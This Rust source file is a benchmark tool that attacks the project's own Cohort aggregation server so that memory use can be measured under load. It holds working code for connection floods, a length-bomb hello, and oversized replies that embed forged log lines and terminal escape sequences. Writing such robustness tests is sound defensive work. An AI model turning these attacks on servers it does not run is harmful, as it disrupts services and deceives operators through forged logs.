//! `cohort-hostile`: an attack tool for benchmarks, not a client. It connects to a running
//! `cohort-server serve` with an enrolled bundle identity and performs one attack in a loop, so
//! that the server's memory can be measured under it (`scripts/hostile-bench.sh`):
//!
//! - `decline`: welcomed like a client, answers every request with a Decline whose ~4 MB reason
//!   forges log lines (newlines) and carries terminal escapes (ESC);
//! - `wrong-phase`: welcomed like a client, answers every request with ~4 MB of sealed shares, a
//!   message of the wrong kind for every request it is sent;
//! - `flood --connections N`: N connections that complete TLS and never say hello, each opened
//!   again when the server closes or refuses it;
//! - `length-bomb --count N`: N connections whose hello is an 11-byte payload claiming a 250 MB
//!   device string.
//!
//! Use it only against servers you run.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use clap::{Parser, Subcommand};
use cohort_common::secagg::{SealedShares, SharedKeys};
use cohort_common::wire::{self, ClientMsg, ServerMsg, MAX_FRAME_BYTES, PROTOCOL_VERSION};
use cohort_io::{recv_msg, send_msg, Identity};
use tokio::task::JoinSet;

#[derive(Parser)]
#[command(name = "cohort-hostile", about = "Attack a Cohort server you run, for benchmarks (not a client)")]
struct Cli {
    /// `host:port` of the server.
    #[arg(long)]
    server: SocketAddr,
    /// The name on the server's certificate.
    #[arg(long, default_value = "localhost")]
    server_name: String,
    /// An enrolled identity: key, certificate and CA in one PEM file (`cohort-server enroll
    /// --client-id ID --bundle FILE`).
    #[arg(long)]
    bundle: PathBuf,
    /// Stop after this many seconds (default: until killed).
    #[arg(long)]
    secs: Option<f64>,
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Subcommand, Clone, Copy)]
enum Attack {
    /// Answer every request with a Decline of about `bytes` bytes (newlines and ESC included).
    Decline {
        #[arg(long, default_value_t = 4_000_000)]
        bytes: usize,
    },
    /// Answer every request with about `bytes` bytes of sealed shares (the wrong kind).
    WrongPhase {
        #[arg(long, default_value_t = 4_000_000)]
        bytes: usize,
    },
    /// Keep `connections` connections open that never say hello.
    Flood {
        #[arg(long, default_value_t = 100)]
        connections: usize,
    },
    /// Send `count` hellos whose device string claims 250 MB, `concurrency` at a time.
    LengthBomb {
        #[arg(long, default_value_t = 100)]
        count: usize,
        #[arg(long, default_value_t = 16)]
        concurrency: usize,
    },
}

/// What the attack saw, printed at the end.
#[derive(Default)]
struct Tally {
    connected: AtomicU64,
    refused: AtomicU64,
    closed_by_server: AtomicU64,
    answered: AtomicU64,
}

impl Tally {
    fn add(counter: &AtomicU64) {
        counter.fetch_add(1, Ordering::Relaxed);
    }
    fn line(&self) -> String {
        format!(
            "connected {} refused {} closed-by-server {} answered {}",
            self.connected.load(Ordering::Relaxed),
            self.refused.load(Ordering::Relaxed),
            self.closed_by_server.load(Ordering::Relaxed),
            self.answered.load(Ordering::Relaxed)
        )
    }
}

/// Dials the server and how to reach it.
struct Dialer {
    endpoint: quinn::Endpoint,
    config: quinn::ClientConfig,
    server: SocketAddr,
    name: String,
}

impl Dialer {
    async fn dial(&self) -> Result<quinn::Connection, quinn::ConnectionError> {
        self.endpoint.connect_with(self.config.clone(), self.server, &self.name).expect("a valid address").await
    }
}

/// The hostile answer to `request`, as a frame of about `bytes` bytes.
fn answer(attack: Attack, request: &ServerMsg, id: &str) -> Result<Vec<u8>> {
    let round = request.request_round().unwrap_or(0);
    let poison = "\nround complete round=999 participants=1000\u{1b}[2J\u{1b}]0;pwned\u{7}";
    let msg = match attack {
        Attack::Decline { bytes } => {
            let mut reason = format!("no{poison}");
            reason.push_str(&"x".repeat(bytes.saturating_sub(reason.len())));
            ClientMsg::Decline { round, reason }
        }
        Attack::WrongPhase { bytes } => {
            let share = SealedShares {
                from: format!("{id}{poison}"),
                to: "everyone".into(),
                ciphertext: vec![0x1b; bytes.saturating_sub(200)],
                seed_commitment: [0; 32],
                key_commitment: [0; 32],
            };
            ClientMsg::Shares { round, keys: SharedKeys { sealed: vec![share], refused: vec![poison.into()] } }
        }
        _ => unreachable!("only the answering attacks answer"),
    };
    Ok(wire::encode(&msg)?)
}

async fn hello(conn: &quinn::Connection) -> Result<ServerMsg, cohort_io::NetError> {
    let (mut send, mut recv) = conn.open_bi().await?;
    send_msg(&mut send, &ClientMsg::Hello { device: "hostile".into(), samples: 1000 }).await?;
    let _ = send.finish();
    recv_msg::<ServerMsg>(&mut recv, 64 << 10).await
}

/// `decline` and `wrong-phase`: says hello, answers every request; reconnects when dropped.
async fn answering(dialer: &Dialer, attack: Attack, id: &str, tally: &Tally) -> Result<()> {
    loop {
        let conn = match dialer.dial().await {
            Ok(conn) => conn,
            Err(e) => {
                eprintln!("cannot connect ({e}); retrying");
                Tally::add(&tally.refused);
                tokio::time::sleep(Duration::from_secs(1)).await;
                continue;
            }
        };
        match hello(&conn).await {
            Ok(ServerMsg::Welcome { .. }) => Tally::add(&tally.connected),
            Ok(ServerMsg::Refused { reason }) => bail!("refused: {reason}"),
            other => {
                let why = other.map_or_else(|e| e.to_string(), |_| "an unexpected answer".into());
                eprintln!("no welcome ({why}); retrying");
                tokio::time::sleep(Duration::from_secs(1)).await;
                continue;
            }
        }
        let mut handlers = JoinSet::new();
        let reason = loop {
            tokio::select! {
                stream = conn.accept_bi() => match stream {
                    Ok((mut send, mut recv)) => {
                        let id = id.to_string();
                        handlers.spawn(async move {
                            let request = recv_msg::<ServerMsg>(&mut recv, MAX_FRAME_BYTES).await.ok()?;
                            let frame = answer(attack, &request, &id).ok()?;
                            send.write_all(&frame).await.ok()?;
                            let _ = send.finish();
                            let _ = tokio::time::timeout(Duration::from_secs(30), send.stopped()).await;
                            Some(())
                        });
                    }
                    Err(e) => break e,
                },
                Some(done) = handlers.join_next(), if !handlers.is_empty() => {
                    if matches!(done, Ok(Some(()))) {
                        Tally::add(&tally.answered);
                    }
                }
            }
        };
        Tally::add(&tally.closed_by_server);
        eprintln!("connection ended ({reason}); {}; reconnecting", tally.line());
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}

/// `flood`: keeps `n` connections open that never say hello.
async fn flood(dialer: Arc<Dialer>, n: usize, tally: Arc<Tally>) -> Result<()> {
    let mut slots = JoinSet::new();
    for _ in 0..n {
        let (dialer, tally) = (dialer.clone(), tally.clone());
        slots.spawn(async move {
            loop {
                match dialer.dial().await {
                    Ok(conn) => {
                        Tally::add(&tally.connected);
                        conn.closed().await;
                        Tally::add(&tally.closed_by_server);
                    }
                    Err(_) => Tally::add(&tally.refused),
                }
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        });
    }
    let mut report = tokio::time::interval(Duration::from_secs(5));
    loop {
        report.tick().await;
        eprintln!("flood: {}", tally.line());
    }
}

/// The frame of a hello whose device string claims 250 MB: an 11-byte payload.
fn length_bomb() -> Vec<u8> {
    // Hello is variant 0; bincode's varint for 250,000,000 is the marker 252 and a u32.
    let mut payload = PROTOCOL_VERSION.to_be_bytes().to_vec();
    payload.push(0);
    payload.push(252);
    payload.extend_from_slice(&250_000_000u32.to_le_bytes());
    payload.extend_from_slice(b"abc");
    let mut frame = (payload.len() as u32).to_be_bytes().to_vec();
    frame.extend_from_slice(&payload);
    frame
}

/// `length-bomb`: `count` bombs, `concurrency` at a time, each waiting for the server to close.
async fn length_bombs(dialer: Arc<Dialer>, count: usize, concurrency: usize, tally: Arc<Tally>) -> Result<()> {
    let permits = Arc::new(tokio::sync::Semaphore::new(concurrency.max(1)));
    let mut bombs = JoinSet::new();
    for _ in 0..count {
        let permit = permits.clone().acquire_owned().await?;
        let (dialer, tally) = (dialer.clone(), tally.clone());
        bombs.spawn(async move {
            let _permit = permit;
            let Ok(conn) = dialer.dial().await else {
                Tally::add(&tally.refused);
                return;
            };
            Tally::add(&tally.connected);
            if let Ok((mut send, _recv)) = conn.open_bi().await {
                let _ = send.write_all(&length_bomb()).await;
                if tokio::time::timeout(Duration::from_secs(15), conn.closed()).await.is_ok() {
                    Tally::add(&tally.closed_by_server);
                }
            }
        });
    }
    while bombs.join_next().await.is_some() {}
    Ok(())
}

#[tokio::main]
async fn main() -> Result<()> {
    let cli = Cli::parse();
    let pem = std::fs::read(&cli.bundle).with_context(|| format!("{}", cli.bundle.display()))?;
    let identity = Identity::from_bundle(&pem)?;
    let id = identity.subject()?;
    let dialer = Arc::new(Dialer {
        endpoint: cohort_io::client_endpoint(cli.server.is_ipv6())?,
        config: cohort_io::client_config(&identity)?,
        server: cli.server,
        name: cli.server_name.clone(),
    });
    let tally = Arc::new(Tally::default());
    let started = Instant::now();
    let attack = async {
        match cli.attack {
            a @ (Attack::Decline { .. } | Attack::WrongPhase { .. }) => answering(&dialer, a, &id, &tally).await,
            Attack::Flood { connections } => flood(dialer.clone(), connections, tally.clone()).await,
            Attack::LengthBomb { count, concurrency } => {
                length_bombs(dialer.clone(), count, concurrency, tally.clone()).await
            }
        }
    };
    let limit = cli.secs.map_or(Duration::MAX, Duration::from_secs_f64);
    let outcome = tokio::select! {
        r = attack => r,
        _ = tokio::time::sleep(limit) => Ok(()),
        _ = cohort_io::shutdown_signal() => Ok(()),
    };
    eprintln!("cohort-hostile: {:.1} s, {}", started.elapsed().as_secs_f64(), tally.line());
    outcome
}
